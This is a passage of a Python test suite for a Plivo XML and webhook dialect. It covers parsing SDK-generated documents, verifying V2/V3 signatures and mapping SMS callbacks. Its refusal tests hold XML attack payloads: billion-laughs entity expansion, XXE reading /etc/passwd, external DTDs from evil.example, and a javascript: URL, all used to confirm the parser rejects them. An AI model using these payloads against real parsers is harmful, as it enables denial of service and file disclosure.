"""The Plivo dialect against the real `plivo` SDK: documents its `plivoxml` generates, and
requests its `validate_signature` / `validate_v3_signature` accept."""

from __future__ import annotations

from datetime import UTC, datetime
from urllib.parse import urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from plivo import plivoxml
from plivo.utils import signature_v3 as sdk_v3
from plivo.utils import validate_signature, validate_v3_signature

from verbal.dialects import plivo
from verbal.dialects.plivo import DIALECT, ERRORS, STATUS_CALLBACKS
from verbal.dialects.types import Dialect, MessageFacts, Progress, SessionFacts
from verbal.dialects.verbs import (
    Document,
    DocumentError,
    Hangup,
    Message,
    PreAnswer,
    Redirect,
    Say,
    Target,
    VoiceVerb,
    Wait,
)
from verbal.webhooks.delivery import append_query

BASE = "https://app.example/plivo/sms"
TOKEN = "plivo-auth-token"
SID = "SM0123456789abcdef0123456789abcdef"
UUID = "01234567-89ab-cdef-0123-456789abcdef"


def parse(xml: str | bytes, content_type: str = "application/xml") -> Document:
    body = xml.encode() if isinstance(xml, str) else xml
    return DIALECT.parse(body, content_type, BASE)


def verbs(xml: str | bytes) -> tuple[object, ...]:
    return parse(xml).verbs


def refused(xml: str | bytes, content_type: str = "text/xml") -> DocumentError:
    with pytest.raises(DocumentError) as caught:
        parse(xml, content_type)
    return caught.value


# --- Documents from plivoxml (sdks.md §2.1) ------------------------------------------------


def full_message() -> plivoxml.ResponseElement:
    return plivoxml.ResponseElement().add(
        plivoxml.MessageElement(
            "Hi, this is a message from Plivo",
            src="+14151112222",
            dst="+14153334444",
            type="sms",
            callback_url="http://127.0.0.1:8080/sms-status",
            callback_method="POST",
        )
    )


FULL = Message(
    to=("+14153334444",),
    sender="+14151112222",
    body="Hi, this is a message from Plivo",
    status_callback=Target("http://127.0.0.1:8080/sms-status", "POST"),
)


def test_message_with_every_attribute_pretty() -> None:
    xml = full_message().to_string()
    assert xml.startswith("<Response>\n  <Message ")  # really the pretty form
    (message,) = verbs(xml)
    assert isinstance(message, Message)
    assert message.to == ("+14153334444",)
    assert message.sender == "+14151112222"
    assert message.body == "Hi, this is a message from Plivo"
    assert message.media == ()
    assert message.first_only is False
    assert message.action is None
    assert message.status_callback == Target("http://127.0.0.1:8080/sms-status", "POST")
    assert message == FULL


def test_message_with_every_attribute_compact() -> None:
    xml = full_message().to_string(False)
    assert "\n" not in xml
    assert verbs(xml) == (FULL,)


def test_minimal_message_means_the_defaults() -> None:
    xml = plivoxml.ResponseElement().add_message("Minimal", dst="+14153334444").to_string(False)
    (message,) = verbs(xml)
    assert message == Message(to=("+14153334444",), body="Minimal")
    assert message.sender is None
    assert message.status_callback is None


def test_bulk_dst_escaping_and_unicode() -> None:
    response = plivoxml.ResponseElement()
    response.add_message(
        "multi dst", src="+14151112222", dst="+14153334444<+14155556666", type="mms"
    )
    response.add_message("a & b < c > \"q\" 'a' ünï ✓", src="+1", dst="+2")
    xml = response.to_string(False)
    assert 'dst="+14153334444&lt;+14155556666"' in xml
    bulk, escaped = verbs(xml)
    # Every destination gets the text (Tropo would send to the first only).
    assert bulk == Message(
        to=("+14153334444", "+14155556666"), sender="+14151112222", body="multi dst"
    )
    assert bulk.first_only is False
    # type="mms" carries no media: Plivo's <Message> has no attribute for it.
    assert bulk.media == ()
    assert escaped.body == "a & b < c > \"q\" 'a' ünï ✓"


def test_empty_elements() -> None:
    assert parse(plivoxml.ResponseElement().to_string()) == Document(verbs=())
    assert parse("<Response></Response>") == Document(verbs=())
    # The SDK writes an empty Message as <Message dst="+1"/>; refusing the blank text is the
    # sending layer's business (Plivo's error 10), not the document's.
    xml = plivoxml.ResponseElement().add_message("", dst="+1").to_string(False)
    assert xml == '<Response><Message dst="+1"/></Response>'
    assert verbs(xml) == (Message(to=("+1",), body=""),)


def test_speak_message_wait_hangup() -> None:
    response = plivoxml.ResponseElement()
    response.add_speak("Hello, sending you an SMS", voice="WOMAN", language="en-US", loop=1)
    response.add_message(
        "From the call",
        src="+14151112222",
        dst="+14153334444",
        callback_url="http://127.0.0.1:8080/cb",
    )
    response.add_wait(length=2)
    response.add_hangup(reason="rejected")
    speak, message, wait, hangup = verbs(response.to_string())
    assert speak == Say("Hello, sending you an SMS", speech_only=True, voice="WOMAN")
    assert message.status_callback == Target("http://127.0.0.1:8080/cb", "POST")
    assert wait == Wait(2.0)
    assert hangup == Hangup(reason="rejected")


def test_hangup_schedule_and_reasons() -> None:
    response = plivoxml.ResponseElement()
    response.add_hangup(schedule=30)
    response.add_hangup(reason="busy")
    assert verbs(response.to_string()) == (
        Hangup(schedule_seconds=30.0),
        Hangup(reason="busy"),
    )
    assert "rejected or busy" in refused('<Response><Hangup reason="late"/></Response>').message
    assert "whole number" in refused('<Response><Hangup schedule="-1"/></Response>').message


def test_play_and_speak_loop() -> None:
    response = plivoxml.ResponseElement()
    response.add_play("/hold.mp3", loop=3)
    response.add_speak("Hi", loop=0)
    assert verbs(response.to_string()) == (
        Say("", speech_only=True, audio=("https://app.example/hold.mp3",), loop=3),
        Say("Hi", speech_only=True, loop=0),
    )
    assert "needs the URL" in refused("<Response><Play/></Response>").message


def test_getdigits_speak_redirect() -> None:
    response = plivoxml.ResponseElement()
    digits = plivoxml.GetDigitsElement(
        action="http://127.0.0.1:8080/digits", method="POST", timeout=5, num_digits=1, retries=1
    )
    digits.add_speak("Press 1 to receive an SMS")
    response.add(digits)
    response.add_speak("No input received")
    response.add_redirect("http://127.0.0.1:8080/answer", method="GET")
    gather, say, redirect = verbs(response.to_string(False))
    assert gather == VoiceVerb(
        "getdigits",
        {
            "action": "http://127.0.0.1:8080/digits",
            "method": "POST",
            "timeout": "5",
            "numDigits": "1",
            "retries": "1",
            "children": [{"body": "Press 1 to receive an SMS", "kind": "speak"}],
        },
    )
    assert say == Say("No input received", speech_only=True)
    assert redirect == Redirect(Target("http://127.0.0.1:8080/answer", "GET"))


def test_play_record_dial() -> None:
    response = plivoxml.ResponseElement()
    response.add_play("https://example.com/a.mp3", loop=2)
    response.add_record(
        action="http://127.0.0.1:8080/rec", max_length=30, play_beep=True, finish_on_key="#"
    )
    dial = plivoxml.DialElement(
        action="http://127.0.0.1:8080/dial", timeout=20, caller_id="+14151112222"
    )
    dial.add_number("+14153334444", send_digits="ww1")
    dial.add_user("sip:alice@example.com")
    response.add(dial)
    play, record, dial_verb = verbs(response.to_string())
    assert play == Say("", speech_only=True, audio=("https://example.com/a.mp3",), loop=2)
    assert record == VoiceVerb(
        "record",
        {
            "action": "http://127.0.0.1:8080/rec",
            "maxLength": "30",
            "playBeep": "true",  # the SDK's bool, kept as the app wrote it
            "finishOnKey": "#",
        },
    )
    assert dial_verb == VoiceVerb(
        "dial",
        {
            "action": "http://127.0.0.1:8080/dial",
            "timeout": "20",
            "callerId": "+14151112222",
            "children": [
                {"sendDigits": "ww1", "body": "+14153334444", "kind": "number"},
                {"body": "sip:alice@example.com", "kind": "user"},
            ],
        },
    )


def test_the_other_voice_elements() -> None:
    response = plivoxml.ResponseElement()
    early = plivoxml.PreAnswerElement()
    early.add_speak("Connecting")
    early.add_message("You called", src="+1", dst="+2")
    response.add(early)
    response.add(plivoxml.GetInputElement(action="https://x/in", input_type="speech"))
    response.add(plivoxml.ConferenceElement("room-1", muted=True))
    response.add(plivoxml.DTMFElement("12w3", async_=True))
    response.add(plivoxml.StreamElement("wss://media.example/s", bidirectional=True))
    response.add(plivoxml.MultiPartyCallElement("mpc-1", role="agent"))
    pre, get_input, conference, dtmf, stream, mpc = verbs(response.to_string())
    assert pre == PreAnswer(
        (Say("Connecting", speech_only=True), Message(to=("+2",), sender="+1", body="You called"))
    )
    assert get_input == VoiceVerb("getinput", {"action": "https://x/in", "inputType": "speech"})
    assert conference == VoiceVerb("conference", {"muted": "true", "body": "room-1"})
    assert dtmf == VoiceVerb("dtmf", {"async": "true", "body": "12w3"})
    assert stream == VoiceVerb("stream", {"bidirectional": "true", "body": "wss://media.example/s"})
    # MultiPartyCall is the one element whose SDK writes every default out.
    assert mpc.kind == "multipartycall"
    assert mpc.attributes["role"] == "agent"
    assert mpc.attributes["maxDuration"] == "14400"
    assert mpc.attributes["statusCallbackEvents"] == "mpc-state-changes,participant-state-changes"
    assert mpc.attributes["body"] == "mpc-1"


def test_speak_with_ssml_is_flattened_to_text() -> None:
    speak = plivoxml.SpeakElement("Hello ", voice="Polly.Joanna")
    speak.add_emphasis("world", level="strong")
    speak.add_break(time="1s")
    xml = plivoxml.ResponseElement().add(speak).to_string()
    assert verbs(xml) == (Say("Hello world", speech_only=True, voice="Polly.Joanna"),)


def test_legacy_sdk_alphabetical_attributes_and_xml_declaration() -> None:
    # What the 0.x SDK wrote (plivo-examples reply_to_sms.py): attributes sorted by name.
    xml = (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<Response><Message callbackMethod="GET" callbackUrl="https://example.com/report/" '
        'dst="2222222222" src="1111111111">Thank you for your message</Message></Response>'
    )
    assert verbs(xml) == (
        Message(
            to=("2222222222",),
            sender="1111111111",
            body="Thank you for your message",
            status_callback=Target("https://example.com/report/", "GET"),
        ),
    )


def test_indented_bodies_lose_only_their_layout() -> None:
    # Other SDKs (Node, PHP, C#) put the text on its own, indented line.
    xml = """<Response>
    <Message src = "12025550000" dst="12025551111" type="sms">
        Hi,  this is\ta sample text
    </Message>
    <Speak>\u3000spaced</Speak>
</Response>"""
    message, speak = verbs(xml)
    assert message.body == "Hi,  this is\ta sample text"
    assert speak.text == "\u3000spaced"  # an ideographic space is content, not layout


def test_relative_urls_resolve_against_the_document() -> None:
    xml = (
        '<Response><Message dst="+1" callbackUrl="../status?x=1" callbackMethod="get">t</Message>'
        "<Redirect>next.xml</Redirect></Response>"
    )
    message, redirect = verbs(xml)
    assert message.status_callback == Target("https://app.example/status?x=1", "GET")
    assert redirect == Redirect(Target("https://app.example/plivo/next.xml", "POST"))


def test_bulk_destinations_are_trimmed_and_deduplicated() -> None:
    (message,) = verbs('<Response><Message dst=" +1 &lt;+2&lt;&lt;+1">t</Message></Response>')
    assert message.to == ("+1", "+2")
    (empty,) = verbs('<Response><Message src="" dst="">t</Message></Response>')
    assert empty.to == ()
    assert empty.sender is None


def test_content_type_parameters_are_ignored() -> None:
    xml = full_message().to_string(False)
    assert parse(xml, "text/xml; charset=utf-8").verbs == (FULL,)
    assert parse(xml, "Application/XML").verbs == (FULL,)


# --- Seed 004: Plivo's <Message> reference page ---------------------------------------------


def test_seed_python_example() -> None:
    response = plivoxml.ResponseElement()
    response.add(
        plivoxml.MessageElement(
            "Hi, this is a sample text",
            src="+12025550000",
            dst="+12025551111",
            type="sms",
            callback_url="https://<yourdomain>.com/sms_status/",
            callback_method="POST",
        )
    )
    (message,) = verbs(response.to_string())
    assert message == Message(
        to=("+12025551111",),
        sender="+12025550000",
        body="Hi, this is a sample text",
        status_callback=Target("https://<yourdomain>.com/sms_status/", "POST"),
    )


def test_seed_sample_output_with_a_raw_angle_bracket_is_not_xml() -> None:
    # The page's hand-written "Sample Output" has an unescaped `<` in an attribute value.
    error = refused(
        '<Response>\n    <Message src="12025550000" dst="12025551111" type="sms" '
        'callbackUrl="https://<yourdomain>.com/sms_status/" callbackMethod="POST">\n'
        "        Hi, this is a sample text\n    </Message>\n</Response>"
    )
    assert error.code == ERRORS.parse_failed
    assert "not well-formed" in error.message


def test_seed_bulk_example() -> None:
    (message,) = verbs(
        '<Response><Message src="12025550000" dst="12025551111&lt;12025552222">'
        "Hi</Message></Response>"
    )
    assert message.to == ("12025551111", "12025552222")


# --- Refused documents ------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Response><Message dst="+1">&lol9;</Message></Response>"""


@pytest.mark.parametrize(
    ("xml", "named"),
    [
        (BILLION_LAUGHS, "entity expansion"),
        (
            '<!DOCTYPE r [<!ENTITY big "' + "x" * 5000 + '">]>'
            '<Response><Message dst="1">&big;&big;&big;</Message></Response>',
            "entity expansion",
        ),
        (
            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            '<Response><Message dst="1">&xxe;</Message></Response>',
            "XXE",
        ),
        (
            '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><Response/>',
            "XXE",
        ),
        ('<!DOCTYPE Response SYSTEM "http://evil.example/x.dtd"><Response/>', "DTD"),
        ("<!DOCTYPE Response><Response/>", "DTD"),
        # A DTD's default attribute would otherwise redirect every <Message>.
        (
            '<!DOCTYPE Response [<!ATTLIST Message dst CDATA "+19005550000">]>'
            "<Response><Message>hi</Message></Response>",
            "DTD",
        ),
    ],
)
def test_xml_attacks_are_refused_by_name(xml: str, named: str) -> None:
    error = refused(xml)
    assert error.code == ERRORS.parse_failed
    assert named in error.message


def test_deep_nesting_is_refused_without_recursion() -> None:
    levels = 12_000
    deep_ssml = "<Response><Speak>" + "<p>" * levels + "</p>" * levels + "</Speak></Response>"
    assert len(deep_ssml) < plivo.MAX_DOCUMENT_BYTES
    error = refused(deep_ssml)
    assert "nested deeper" in error.message


def test_oversized_documents_are_refused() -> None:
    padding = "x" * plivo.MAX_DOCUMENT_BYTES
    error = refused(f'<Response><Message dst="1">{padding}</Message></Response>')
    assert error.code == ERRORS.parse_failed
    assert "limit" in error.message


@pytest.mark.parametrize(
    ("xml", "fragment"),
    [
        ("", "not well-formed"),
        ('{"tropo": []}', "not well-formed"),
        ("<Response><Message>", "not well-formed"),
        (b"<Response>\xff</Response>", "not well-formed"),
        (b'<?xml version="1.0" encoding="utf-7"?><Response/>', "encoding"),
        (b'<?xml version="1.0" encoding="rot13"?><Response/>', "encoding"),
        ("<Response>&undefined;</Response>", "not well-formed"),
        ("<Reply/>", "root element must be <Response>"),
        ('<Response xmlns="urn:x"/>', "root element must be <Response>"),
        ("<Response><message dst='1'>lower case</message></Response>", "unknown element"),
        ("<Response><Sms>twiml</Sms></Response>", "unknown element <Sms>"),
        ("<Response><Message dst='1'><Speak>x</Speak></Message></Response>", "not allowed in"),
        ("<Response><Number>+1</Number></Response>", "<Number> is not allowed in <Response>"),
        ("<Response><Speak><Play>u</Play></Speak></Response>", "not allowed in <Speak>"),
        ("<Response><GetDigits><Message dst='1'>t</Message></GetDigits></Response>", "not allowed"),
        ("<Response><Dial callerId='1'/></Response>", "<Dial> needs"),
        ("<Response><Message dst='1' type='whatsapp'>t</Message></Response>", "whatsapp"),
        ("<Response><Message dst='1' type='fax'>t</Message></Response>", "fax"),
        (
            "<Response><Message dst='1' callbackUrl='https://x/cb' callbackMethod='PUT'>t"
            "</Message></Response>",
            "GET or POST",
        ),
        (
            "<Response><Message dst='1' callbackUrl='javascript:alert(1)'>t</Message></Response>",
            "http(s) URL",
        ),
        ("<Response><Redirect/></Response>", "needs a URL"),
        ("<Response><Redirect>ftp://x/y</Redirect></Response>", "http(s) URL"),
        ("<Response><Redirect method='DELETE'>/x</Redirect></Response>", "GET or POST"),
        ("<Response><Wait length='soon'/></Response>", "<Wait length>"),
        ("<Response><Wait length='-1'/></Response>", "<Wait length>"),
        ("<Response><Wait length='inf'/></Response>", "<Wait length>"),
        ("<Response><Wait length='nan'/></Response>", "<Wait length>"),
    ],
)
def test_bad_documents(xml: str | bytes, fragment: str) -> None:
    error = refused(xml)
    assert error.code == ERRORS.parse_failed
    assert fragment in error.message


@pytest.mark.parametrize("content_type", ["text/html", "application/json", "", "text/plain"])
def test_other_content_types_are_refused(content_type: str) -> None:
    error = refused(full_message().to_string(), content_type)
    assert error.code == ERRORS.bad_content_type


def test_comments_and_unknown_attributes_are_harmless() -> None:
    xml = (
        "<Response><!-- reply --><?pi x?>"
        "<Message dst='1' log='false' future='x'>t</Message><Wait/></Response>"
    )
    assert verbs(xml) == (Message(to=("1",), body="t"), Wait(1.0))


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_arbitrary_bytes_never_crash(body: bytes) -> None:
    try:
        DIALECT.parse(b"<Response>" + body, "text/xml", BASE)
        DIALECT.parse(body, "text/xml", BASE)
    except DocumentError:
        pass


_XML_TEXT = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff")
    | st.sampled_from("\t\n\r "),
    max_size=60,
)


@settings(max_examples=200, deadline=None)
@given(_XML_TEXT, st.lists(st.from_regex(r"\+?[0-9]{1,15}", fullmatch=True), min_size=1))
def test_any_sdk_message_round_trips(text: str, numbers: list[str]) -> None:
    xml = plivoxml.ResponseElement().add_message(text, dst="<".join(numbers)).to_string()
    (message,) = verbs(xml)
    assert message.body == text.strip(" \t\r\n")
    assert message.to == tuple(dict.fromkeys(numbers))


# --- Signatures (plivo.md §6, sdks.md §2.5) ---------------------------------------------------

GO_URL = "https://plivobin.non-prod.plivops.com/api/v1/validate_signature03.xml"
GO_NONCE = "31627761595286130198"
GO_TOKEN = "Y2Q2ZDgxZmY5YWRiOTI5YmQ1Njg0MTAxZWIyOTc4"
GO_PARAMS = [
    ("Direction", "outbound"),
    ("From", "19792014278"),
    ("ALegUUID", "3e82ae9d-2c78-4d85-b1a4-6eae7dbafb36"),
    ("CallStatus", "in-progress"),
    ("BillRate", "0.002"),
    ("ParentAuthID", "MANWVLYTK4ZWU1YTY4QA"),
    ("To", "sip:PlivoSignature382029104058171078704104@phone-qa.voice.plivodev.com"),
    ("ALegRequestUUID", "3e82ae9d-2c78-4d85-b1a4-6eae7dbafb36"),
    ("CallUUID", "3e82ae9d-2c78-4d85-b1a4-6eae7dbafb36"),
    ("RequestUUID", "3e82ae9d-2c78-4d85-b1a4-6eae7dbafb36"),
    ("SIP-H-To", "<sip:PlivoSignature382029104058171078704104@52.9.11.55;transport=udp>;tag=1"),
    ("SessionStart", "2020-04-08 11:34:33.238707"),
    ("Event", "StartApp"),
]


def test_v2_vector() -> None:
    expected = "ehV3IKhLysWBxC1sy8INm0qGoQYdYsHwuoKjsX7FsXc="
    assert plivo.signature_v2("https://answer.url", "12345", "my_auth_token") == expected
    # The query string is not covered.
    assert plivo.signature_v2("https://answer.url?a=1", "12345", "my_auth_token") == expected


def test_v3_vector_from_the_notes() -> None:
    signature = plivo.signature_v3(
        "POST", "https://example.com/cb", [("b", "2"), ("a", "1")], "nonce1", "tok"
    )
    assert signature == "F1S9ASi8GHkqL45L78LYLU0yJWY6WHMGF/BF0EVkMS0="


@pytest.mark.parametrize(
    ("method", "url", "expected"),
    [
        ("POST", GO_URL + "/?a=b&c=d", "k7Pusd4OxCIjR5IfA9iedDNu/h/gbdYqdzG/MiYtd1c="),
        ("GET", GO_URL + "/?a=b&c=d", "UBq8jAtd32wR8EK9VgxbBn4n5rpI/l1H9iN4WfSEHFQ="),
        ("POST", GO_URL, "iAjE5QqI37mbkYe4w3jTMudqEzbDufdqi7sYwTu64e0="),
        ("GET", GO_URL, "i/MQsaQSAd6fiKhOh2qeeeLHZ9faldADSb3/7+Akfbc="),
    ],
)
def test_v3_vectors_from_plivo_sdks(method: str, url: str, expected: str) -> None:
    assert plivo.signature_v3(method, url, GO_PARAMS, GO_NONCE, GO_TOKEN) == expected


def test_v3_post_without_params_signs_the_url_alone() -> None:
    for url in ("https://example.com/cb", "https://example.com/cb?z=9&a=1"):
        signature = plivo.signature_v3("POST", url, [], "n", TOKEN)
        assert validate_v3_signature("POST", url, "n", TOKEN, signature, {})


def assert_signed(
    method: str, sent_url: str, form: dict[str, str], headers: dict[str, str]
) -> None:
    """Check the headers the way a Plivo app does, with the SDK, on what it received."""
    v2_nonce = headers["X-Plivo-Signature-V2-Nonce"]
    v3_nonce = headers["X-Plivo-Signature-V3-Nonce"]
    assert v2_nonce.isdigit() and len(v2_nonce) == 20
    assert v3_nonce.isdigit() and len(v3_nonce) == 20
    v2, v3 = headers["X-Plivo-Signature-V2"], headers["X-Plivo-Signature-V3"]
    assert validate_signature(sent_url, v2_nonce, v2, TOKEN)
    assert validate_v3_signature(method, sent_url, v3_nonce, TOKEN, v3, dict(form))
    # Every Verbal account is a main account: the Ma- variants are the same values.
    assert headers["X-Plivo-Signature-Ma-V2"] == v2
    assert headers["X-Plivo-Signature-Ma-V3"] == v3
    assert not validate_signature(sent_url, v2_nonce, v2, TOKEN + "x")
    assert not validate_v3_signature(method, sent_url, v3_nonce, TOKEN + "x", v3, dict(form))


# --- Requests to the app (plivo.md §3.1) -----------------------------------------------------


def facts(**changes: object) -> SessionFacts:
    values: dict[str, object] = {
        "session_id": "session-1",
        "account_sid": "AC" + "0" * 32,
        "started_at": datetime(2026, 1, 1, tzinfo=UTC),
        "channel": "text",
        "launch": "inbound",
        "local_number": "+14151112222",
        "remote_number": "+14153334444",
        "initial_text": "Hello there",
        "inbound_message_sid": SID,
    }
    values.update(changes)
    return SessionFacts(**values)  # type: ignore[arg-type]


def test_inbound_sms_params() -> None:
    request = DIALECT.start_request(facts(num_segments=2), Target(BASE, "POST"), TOKEN)
    assert request.method == "POST"
    assert request.url == BASE
    assert request.json is None
    assert request.form == (
        ("From", "+14153334444"),
        ("To", "+14151112222"),
        ("Type", "sms"),
        ("Text", "Hello there"),
        ("MessageUUID", UUID),
        ("Units", "2"),
        ("TotalRate", "0.00000"),
        ("TotalAmount", "0.00000"),
        ("MessageIntent", ""),
        ("PowerpackUUID", ""),
    )
    assert_signed("POST", request.url, dict(request.form), request.headers)


def test_inbound_mms_params() -> None:
    media = ("https://media.example/1.jpg", "https://media.example/2.png")
    request = DIALECT.start_request(
        facts(initial_text="Look", inbound_media=media), Target(BASE), TOKEN
    )
    assert request.form == (
        ("From", "+14153334444"),
        ("To", "+14151112222"),
        ("Type", "mms"),
        ("Text", "Look"),
        ("Body", "Look"),
        ("MessageUUID", UUID),
        ("Units", "1"),
        ("TotalRate", "0.00000"),
        ("TotalAmount", "0.00000"),
        ("PowerpackUUID", ""),
        ("MediaCount", "2"),
        ("Media1", "https://media.example/1.jpg"),
        ("Media2", "https://media.example/2.png"),
    )
    assert_signed("POST", request.url, dict(request.form), request.headers)


@pytest.mark.parametrize(
    ("text", "intent"),
    [
        ("STOP", "optout"),
        ("stop ", "optout"),
        ("Stop all", "optout"),
        ("unsubscribe", "optout"),
        ("quit", "optout"),
        ("START", "optin"),
        ("unstop", "optin"),
        ("help", "help"),
        ("INFO\n", "help"),
        ("please stop", ""),
        ("", ""),
    ],
)
def test_message_intent(text: str, intent: str) -> None:
    request = DIALECT.start_request(facts(initial_text=text), Target(BASE), TOKEN)
    assert dict(request.form)["MessageIntent"] == intent


def test_message_uuid_is_the_sid_in_uuid_form() -> None:
    assert plivo.message_uuid(SID) == UUID
    assert "SM" + plivo.message_uuid(SID).replace("-", "") == SID
    # Anything else still gets a stable UUID.
    odd = plivo.message_uuid("not-a-sid")
    assert odd == plivo.message_uuid("not-a-sid")
    assert len(odd) == 36 and odd.count("-") == 4


def test_post_to_a_url_with_a_query_and_non_ascii_text() -> None:
    target = Target("https://app.example:8443/sms;v=1?app=7&z=", "POST")
    request = DIALECT.start_request(facts(initial_text="Grüße ✓ & más"), target, TOKEN)
    assert_signed("POST", request.url, dict(request.form), request.headers)


@pytest.mark.parametrize(
    "url", ["https://app.example/sms", "https://app.example/sms?app=7&From=spoof", "http://a/b?"]
)
def test_get_requests_sign_the_query_they_arrive_with(url: str) -> None:
    request = DIALECT.start_request(
        facts(initial_text="hi there + 100% & a=b?"), Target(url, "GET"), TOKEN
    )
    assert request.method == "GET"
    assert request.url == url
    # The engine appends the form to the URL; the app sees (and validates) that URL.
    sent = url + ("&" if "?" in url else "?") + urlencode(request.form)
    assert_signed("GET", sent, {}, request.headers)
    assert_signed("GET", sent, dict(request.form), request.headers)


def test_get_with_non_ascii_text() -> None:
    request = DIALECT.start_request(facts(initial_text="Grüße ✓"), Target(BASE, "GET"), TOKEN)
    sent = BASE + "?" + urlencode(request.form)
    nonce = request.headers["X-Plivo-Signature-V3-Nonce"]
    signature = request.headers["X-Plivo-Signature-V3"]
    # plivo 4.63.0 cannot check this at all: it re-encodes the decoded query as ASCII.
    with pytest.raises(UnicodeEncodeError):
        validate_v3_signature("GET", sent, nonce, TOKEN, signature, {})
    # Its own building blocks, given the decoded query, agree with us.
    query = {name: [value] for name, value in request.form}
    expected = sdk_v3.get_signature_v3(
        TOKEN.encode(), BASE + "?" + sdk_v3.get_sorted_query_string(query), nonce.encode()
    )
    assert signature.encode() == expected
    assert validate_signature(
        sent,
        request.headers["X-Plivo-Signature-V2-Nonce"],
        request.headers["X-Plivo-Signature-V2"],
        TOKEN,
    )


def test_nonces_are_fresh_per_request() -> None:
    first = DIALECT.start_request(facts(), Target(BASE), TOKEN).headers
    second = DIALECT.start_request(facts(), Target(BASE), TOKEN).headers
    assert first["X-Plivo-Signature-V3-Nonce"] != second["X-Plivo-Signature-V3-Nonce"]
    assert first["X-Plivo-Signature-V2-Nonce"] != first["X-Plivo-Signature-V3-Nonce"]


def test_tampered_params_fail_v3() -> None:
    request = DIALECT.start_request(facts(), Target(BASE), TOKEN)
    form = dict(request.form) | {"Text": "Hello therf"}
    nonce = request.headers["X-Plivo-Signature-V3-Nonce"]
    signature = request.headers["X-Plivo-Signature-V3"]
    assert not validate_v3_signature("POST", BASE, nonce, TOKEN, signature, form)


def test_redirect_repeats_the_start_params() -> None:
    start = DIALECT.start_request(facts(), Target(BASE), TOKEN)
    target = Target("https://app.example/plivo/next.xml", "POST")
    progress = Progress(event="redirect", sequence=1, duration_seconds=0)
    request = DIALECT.continue_request(facts(), target, progress, TOKEN)
    assert request.url == target.url
    assert request.form == start.form
    assert_signed("POST", request.url, dict(request.form), request.headers)

    get = Target("https://app.example/plivo/next.xml?step=2", "GET")
    request = DIALECT.continue_request(facts(), get, progress, TOKEN)
    assert request.method == "GET"
    assert_signed("GET", get.url + "&" + urlencode(request.form), {}, request.headers)


@pytest.mark.parametrize("event", ["continue", "message", "error", "hangup", "incomplete"])
def test_only_redirect_continues(event: str) -> None:
    progress = Progress(event=event, sequence=1, duration_seconds=0)
    with pytest.raises(ValueError, match="Redirect"):
        DIALECT.continue_request(facts(), Target(BASE), progress, TOKEN)


@pytest.mark.parametrize(("launch", "channel"), [("token", "text"), ("inbound", "voice")])
def test_sessions_plivo_cannot_start(launch: str, channel: str) -> None:
    with pytest.raises(ValueError, match="inbound message"):
        DIALECT.start_request(facts(launch=launch, channel=channel), Target(BASE), TOKEN)


# --- Status callbacks (plivo.md §4) ----------------------------------------------------------


def message_facts(**changes: object) -> MessageFacts:
    values: dict[str, object] = {
        "sid": SID,
        "account_sid": "AC" + "0" * 32,
        "from_number": "+14151112222",
        "to_number": "+14153334444",
        "body": "hi",
        "status": "queued",
        "error_code": None,
        "error_message": None,
        "media_urls": (),
        "num_segments": 1,
        "date_updated": datetime(2026, 1, 1, tzinfo=UTC),
    }
    values.update(changes)
    return MessageFacts(**values)  # type: ignore[arg-type]


def test_queued_callback_field_by_field() -> None:
    assert STATUS_CALLBACKS.params(message_facts(num_segments=3)) == [
        ("MessageUUID", UUID),
        ("To", "+14153334444"),
        ("From", "+14151112222"),
        ("Type", "sms"),
        ("Status", "queued"),
        ("Units", "3"),
        ("TotalRate", "0.00000"),
        ("TotalAmount", "0.00000"),
        ("ParentMessageUUID", UUID),
        ("Sequence", "1"),
        ("PowerpackUUID", ""),
    ]


@pytest.mark.parametrize(
    ("status", "plivo_status", "sequence"),
    [
        ("accepted", "queued", "1"),
        ("queued", "queued", "1"),
        ("sending", "queued", "1"),
        ("sent", "sent", "2"),
        ("delivered", "delivered", "3"),
    ],
)
def test_successful_statuses_carry_no_error_code(
    status: str, plivo_status: str, sequence: str
) -> None:
    params = dict(STATUS_CALLBACKS.params(message_facts(status=status)))
    assert params["Status"] == plivo_status
    assert params["Sequence"] == sequence
    assert "ErrorCode" not in params


@pytest.mark.parametrize(
    ("status", "verbal_code", "plivo_status", "plivo_code"),
    [
        ("undelivered", 30003, "undelivered", "80"),
        ("undelivered", 30005, "undelivered", "70"),
        ("undelivered", 30006, "undelivered", "50"),
        ("undelivered", 30007, "undelivered", "30"),
        ("failed", 30001, "failed", "20"),
        ("failed", 30004, "failed", "100"),
        ("failed", 30008, "failed", "1000"),
        ("failed", 30009, "failed", "20"),
        ("failed", 30036, "failed", "420"),
        ("failed", 30999, "failed", "1000"),
        ("failed", None, "failed", "1000"),
        ("canceled", None, "failed", "1000"),
    ],
)
def test_failures_carry_a_plivo_error_code(
    status: str, verbal_code: int | None, plivo_status: str, plivo_code: str
) -> None:
    params = STATUS_CALLBACKS.params(
        message_facts(status=status, error_code=verbal_code, error_message="x")
    )
    assert ("Status", plivo_status) in params
    assert ("ErrorCode", plivo_code) in params
    assert ("Sequence", "3") in params
    # ErrorCode sits after the charges, as in Plivo's parameter list.
    names = [name for name, _ in params]
